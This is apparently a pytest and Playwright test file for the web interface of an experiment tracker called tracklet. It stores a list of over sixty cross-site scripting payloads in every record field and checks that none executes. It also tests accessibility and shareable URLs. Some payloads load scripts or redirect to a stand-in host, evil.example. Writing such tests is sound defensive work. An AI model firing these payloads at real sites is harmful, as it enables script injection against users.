"""Every screen can be used by all, and shows whatever a record holds as data."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

import tracklet

expect = pytest.importorskip("playwright.sync_api").expect
Open = Callable[..., Any]

# What a record may hold to have a page run something.
HOSTILE = [
    "<script>window.__pwned=1</script>",
    "<img src=x onerror=window.__pwned=1>",
    "<svg onload=window.__pwned=1>",
    "\"><iframe srcdoc='<script>parent.__pwned=1</script>'>",
    "' autofocus onfocus=window.__pwned=1 x='",
    "javascript:window.__pwned=1",
    '[x](javascript:window.__pwned=1) ![x](x" onerror=window.__pwned=1)',
    "<a href='data:text/html,<script>opener.__pwned=1</script>'>x</a>",
    "${window.__pwned=1}{{constructor.constructor('window.__pwned=1')()}}",
    "\u202e\u2066<b>\x1b[31m\x1b]8;;javascript:window.__pwned=1\x07x\x1b]8;;\x07",
    "</textarea></title></style><math><mtext><style><img src onerror=window.__pwned=1>",
    "__proto__",
    "constructor",
    "%s%n{}`%00",
]
HOSTILE += [
    f"<{tag} {event}=window.__pwned=1>"
    for tag, event in (
        ("body", "onload"), ("details open", "ontoggle"), ("video src=x", "onerror"),
        ("audio src=x", "onerror"), ("input autofocus", "onfocus"), ("marquee", "onstart"),
        ("object data=x", "onerror"), ("select autofocus", "onfocus"),
        ("style", "onload"), ("div tabindex=0 style=animation-name:x", "onanimationstart"),
        ("svg><animate attributeName=x dur=1s", "onbegin"), ("img/src/", "onerror"),
        ("IMG\tSRC=x", "oNeRrOr"), ("link rel=stylesheet href=x", "onerror"),
        ("iframe src=x", "onload"), ("embed src=x", "onload"),
        ("svg><image href=x", "onerror"), ("form><button autofocus", "onfocus"),
    )
] + [
    "<iframe src=javascript:parent.__pwned=1>", "<a href=JaVaScRiPt:window.__pwned=1>x</a>",
    "<form action=javascript:window.__pwned=1><input type=submit autofocus></form>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=import href=//evil.example>", "<script src=//evil.example/x.js></script>",
    "<style>@import '//evil.example/x.css'</style>", "<img srcset='//evil.example/x 2x'>",
    "<svg><script href=data:,window.__pwned=1 /></svg>", "<svg><use href='//evil.example#x'/>",
    "<math href=javascript:window.__pwned=1>x</math>", "<noscript><p title='</noscript><img src=x "
    "onerror=window.__pwned=1>'>", "<template><script>window.__pwned=1</script></template>",
    "<!--><img src=x onerror=window.__pwned=1>-->", "<![CDATA[><img src=x onerror=__pwned=1>]]>",
    "&lt;script&gt;window.__pwned=1&lt;/script&gt;", "&#60;img src=x onerror=window.__pwned=1&#62;",
    "\\u003cscript\\u003ewindow.__pwned=1", "<\tscript>window.__pwned=1</script>",
    "url(javascript:window.__pwned=1)", "red;background:url(//evil.example/x)",
    "expression(window.__pwned=1)", "data:text/html;base64,PHNjcmlwdD4=", "vbscript:__pwned=1",
    "[x](vbscript:1) [y](data:text/html,x) ![z](//evil.example/z.png)", "//evil.example/x",
    "<//evil.example/x>", "[a]: javascript:__pwned=1\n[a]", "`<img src=x onerror=__pwned=1>`",
]  # fmt: skip
assert len(HOSTILE) >= 60


@pytest.fixture(scope="module")
def hostile(
    tmp_path_factory: pytest.TempPathFactory, serving: Any
) -> Iterator[tuple[Any, str, list[str]]]:
    """A record whose every text is hostile, its experiment and runs."""
    from tracklet.entities import Dataset, DatasetInput, InputTag

    root = tmp_path_factory.mktemp("hostile") / "mlruns"
    client = tracklet.TrackletClient(str(root))
    experiment = client.create_experiment(
        HOSTILE[1], tags={f"t {i}": t for i, t in enumerate(HOSTILE)}
    )
    client.set_experiment_tag(experiment, "mlflow.note.content", "\n\n".join(HOSTILE))
    client.set_experiment_tag(experiment, f"tracklet.view.{HOSTILE[4]}", HOSTILE[4])
    runs = []
    for i, text in enumerate(HOSTILE):
        run_id = client.create_run(experiment, run_name=text).info.run_id
        for k, other in enumerate(HOSTILE):
            client.set_tag(run_id, f"tag.{k}", other)
            client.log_param(run_id, f"param.{k}", f"{i} {other}")
        client.log_metric(run_id, "constructor", i)
        client.log_metric(run_id, "__proto__", i)
        client.log_metric(run_id, "img src=x onerror=window.__pwned=1", i)
        client.set_tag(run_id, "mlflow.note.content", "\n\n".join([text, *HOSTILE]))
        client.set_tag(run_id, "mlflow.source.name", text)
        client.set_tag(run_id, "mlflow.user", text)
        client.log_inputs(
            run_id,
            [
                DatasetInput(
                    Dataset(text, "d", text[:36], text), [InputTag("mlflow.data.context", text)]
                )
            ],
        )
        client.set_terminated(run_id)
        runs.append(run_id)
    everything = "\n".join(HOSTILE)
    files = {
        "a <img src=x onerror=window.__pwned=1>.txt": everything,
        "n.md": everything,
        "p.html": everything,
        "t.csv": "\n".join(f'"{text.replace(chr(34), chr(34) * 2)}",1' for text in HOSTILE),
        "f.json": json.dumps(
            {
                "data": [
                    {
                        "type": "scatter",
                        "x": HOSTILE,
                        "y": [1] * len(HOSTILE),
                        "name": HOSTILE[1],
                        "line": {"color": HOSTILE[4], "dash": HOSTILE[0]},
                    },
                    {"type": HOSTILE[0]},
                ],
                "layout": {"title": {"text": HOSTILE[0]}, "xaxis": {"title": HOSTILE[1]}},
            }
        ),
        "n.ipynb": json.dumps(
            {
                "cells": [
                    {"cell_type": "markdown", "source": HOSTILE},
                    {
                        "cell_type": "code",
                        "source": everything,
                        "outputs": [{"data": {"text/plain": everything}}],
                    },
                ]
            }
        ),
        "s.svg": f"<svg xmlns='http://www.w3.org/2000/svg'>{HOSTILE[0]}</svg>",
        "tracklet/output.log": everything,
        "tracklet/packages.txt": everything,
        "tracklet/machine.json": json.dumps(
            {"command": HOSTILE, "arguments": dict.fromkeys(HOSTILE, "x"), "host": HOSTILE[1]}
        ),
        "tracklet/code/x.py": everything,
        "tracklet/code/uncommitted.patch": everything,
    }
    for path, text in files.items():
        client.log_text(runs[0], text, path)
    one = serving(root)
    yield one, experiment, runs
    one.stop()


def screens(experiment: str, runs: list[str]) -> dict[str, str]:
    """The addresses of the screens, by what is seen when they are there."""
    table, run = f"#/experiments/{experiment}", f"#/runs/{runs[0]}"
    both = ",".join(runs[:3])
    return {
        "#/": "table.list",
        table: ".row",
        f"{table}?group=tag.tag.1,param.param.2": ".row .fold",
        f"{table}?view=charts": ".chart canvas",
        f"{table}?view=scatter&sc=param.param.1": ".scatter canvas",
        f"{table}?view=parallel": ".parallel canvas",
        run: ".card",
        f"{run}?tab=charts": ".chart canvas",
        f"{run}?tab=artifacts": ".entry",
        f"{run}?tab=logs": ".line",
        f"{run}?tab=code": ".line",
        f"#/compare?runs={both}&all=1": ".compare td",
    }


def test_no_text_of_a_record_runs_on_any_screen(
    hostile: tuple[Any, str, list[str]], open_page: Open
) -> None:
    server, experiment, runs = hostile
    page = open_page(server=server, allowed=("404 (Not Found)",))
    for at, seen in screens(experiment, runs).items():
        page.goto(f"{server.address}{at}")
        expect(page.locator(seen).first).to_be_visible()
        assert page.evaluate("window.__pwned") is None
    files = f"{server.address}#/runs/{runs[0]}?tab=artifacts&path="
    for name in ("n.md", "t.csv", "f.json", "n.ipynb", "s.svg", "tracklet/code/x.py"):
        page.goto(f"{files}{name}")
        expect(page.locator(".preview h2")).to_have_text(Path(name).name)
        page.wait_for_load_state("networkidle")
        assert page.evaluate("window.__pwned") is None
    page.goto(f"{server.address}#/experiments/{experiment}")
    for button in ("Views", "Facets", "Group", "Export", "Columns"):
        page.get_by_role("button", name=button).first.click()
        if button != "Columns":
            expect(page.locator(".menu :focus")).to_have_count(1)
        page.keyboard.press("Escape")
        expect(page.locator(".menu")).to_have_count(0)
    page.get_by_label("filter runs").press_sequentially("param")
    expect(page.get_by_role("option").first).to_be_visible()


LOOKS = {
    "light": {"color_scheme": "light"},
    "dark": {"color_scheme": "dark"},
    "narrow": {"viewport": {"width": 320, "height": 800}},
    "forced colours": {"forced_colors": "active"},
}


@pytest.mark.parametrize("look", LOOKS)
def test_every_screen_is_accessible(
    open_page: Open, record: Path, experiment: str, look: str
) -> None:
    Axe = pytest.importorskip("axe_playwright_python.sync_playwright").Axe
    client = tracklet.TrackletClient(str(record))
    runs = [run.info.run_id for run in client.search_runs([experiment])]
    options = dict(LOOKS[look])
    size = options.pop("viewport", None)
    page = open_page(**options)
    if size:
        page.set_viewport_size(size)
    wanted = screens(experiment, runs)
    del wanted[f"#/runs/{runs[0]}?tab=logs"], wanted[f"#/runs/{runs[0]}?tab=code"]
    wanted[f"#/runs/{runs[0]}?tab=artifacts&path=figures/roc.json"] = ".figure svg"
    found = {}
    tags = {"runOnly": ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa"]}
    for at, seen in wanted.items():
        page.goto(page.url.partition("#")[0] + at)
        expect(page.locator(seen).first).to_be_visible()
        violations = Axe().run(page, options=tags).response["violations"]
        for one in violations:
            found[at, one["id"]] = [
                (node["html"][:160], [check["message"] for check in node["any"]])
                for node in one["nodes"][:3]
            ]
        if size:
            assert page.evaluate("document.documentElement.scrollWidth") <= size["width"]
    assert found == {}


def test_an_address_shows_the_same_to_whoever_opens_it(
    open_page: Open, record: Path, experiment: str
) -> None:
    runs = [
        run.info.run_id for run in tracklet.TrackletClient(str(record)).search_runs([experiment])
    ]
    table = f"#/experiments/{experiment}"
    changes = {
        table: (".row", lambda page: page.get_by_role("columnheader", name="lr").click()),
        f"{table}?view=charts": (
            ".chart canvas",
            lambda page: page.get_by_label("find metrics").fill("auc"),
        ),
        f"{table}?view=parallel": (
            ".parallel canvas",
            lambda page: page.get_by_role(
                "button", name=re.compile("^move .* right")
            ).first.click(),
        ),
        f"#/runs/{runs[0]}": (".card", lambda page: page.keyboard.press("4")),
        f"#/compare?runs={','.join(runs)}": (
            ".compare td",
            lambda page: page.get_by_label("only what differs").uncheck(),
        ),
    }
    page = open_page()
    home = page.url.partition("#")[0]
    for at, (seen, change) in changes.items():
        page.goto(home + at)
        expect(page.locator(seen).first).to_be_visible()
        change(page)
        expect(page).not_to_have_url(home + at)
        page.wait_for_load_state("networkidle")
        other = open_page(page.url.removeprefix(home))
        expect(other.locator("#main")).to_have_text(
            page.locator("#main").inner_text(), use_inner_text=True
        )
        other.close()
